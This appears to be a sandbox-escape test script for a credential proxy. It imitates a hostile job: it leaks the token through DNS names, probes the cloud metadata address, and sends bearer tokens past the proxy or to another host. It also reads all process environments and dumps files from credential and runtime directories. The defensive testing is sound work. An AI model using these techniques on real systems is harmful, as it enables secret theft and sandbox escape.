"""Runs INSIDE a sandbox (python3 -c): tries every way out and every place a real value could
be, and prints one JSON object. It knows only what a hostile job knows: its environment (the
placeholder), the proxy settings, and the target given in argv: HOST PORT OTHER_HOST TAG (TAG
goes into every request, so the host finds this run's requests among other tests')."""

import json
import os
import socket
import subprocess
import sys

host, port, other, tag = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
ph = os.environ.get("SBX_TOKEN", "")
out = {"placeholder": ph, "env": dict(os.environ)}


def attempt(fn):
    try:
        return "ok: " + repr(fn())[:200]
    except Exception as exc:  # noqa: BLE001
        return f"error: {type(exc).__name__}: {exc}"[:300]


def curl(*args):
    p = subprocess.run(
        ["curl", "-sS", "-m", "10", "-D", "-", *args],
        capture_output=True,
        text=True,
        errors="replace",
    )
    return {"code": p.returncode, "out": p.stdout, "err": p.stderr}


out["dns"] = {
    name: attempt(lambda n=name: socket.getaddrinfo(n, 443))
    for name in (f"{ph}.outside.example", "outside.example", host, "host.docker.internal")
}
out["direct"] = {
    f"{a}:{p}": attempt(lambda a=a, p=p: socket.create_connection((a, p), 2).close())
    for a, p in (
        ("192.0.2.1", 443),
        ("127.0.0.1", port),
        ("172.17.0.1", port),
        ("169.254.169.254", 80),
        ("::1", port),
    )
}
out["udp_dns"] = attempt(
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
        b"\x00" * 12, ("192.0.2.53", 53)
    )
)
out["noproxy"] = curl(
    "--noproxy", "*", "-H", f"Authorization: Bearer {ph}", f"https://{host}:{port}/echo?t={tag}"
)
out["via_proxy"] = curl("-H", f"Authorization: Bearer {ph}", f"https://{host}:{port}/echo?t={tag}")
out["leak"] = curl("-H", f"Authorization: Bearer {ph}", f"https://{other}:{port}/echo?t={tag}")


def control_on_run_socket():
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(3)
    s.connect(os.environ["COATCHECK_PROXY_SOCKET"])
    s.sendall(b'{"op": "ping"}\n\r\n\r\n')
    data = s.recv(4096)
    s.close()
    return data.decode("latin-1")


out["run_socket_as_control"] = attempt(control_on_run_socket)
out["run_dir"] = attempt(lambda: os.listdir(os.path.dirname(os.environ["COATCHECK_PROXY_SOCKET"])))
dump = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as f:
                    dump.append(f.read().decode("latin-1"))
            except OSError:
                pass
for top in ("/run", "/etc/coatcheck", "/home", "/tmp", "/work", "/root", "/var/run"):
    for root, _dirs, files in os.walk(top):
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as f:
                    dump.append(f.read(65536).decode("latin-1"))
            except OSError:
                pass
out["dump"] = "\n".join(dump)
out["uid"] = os.getuid()
print(json.dumps(out))
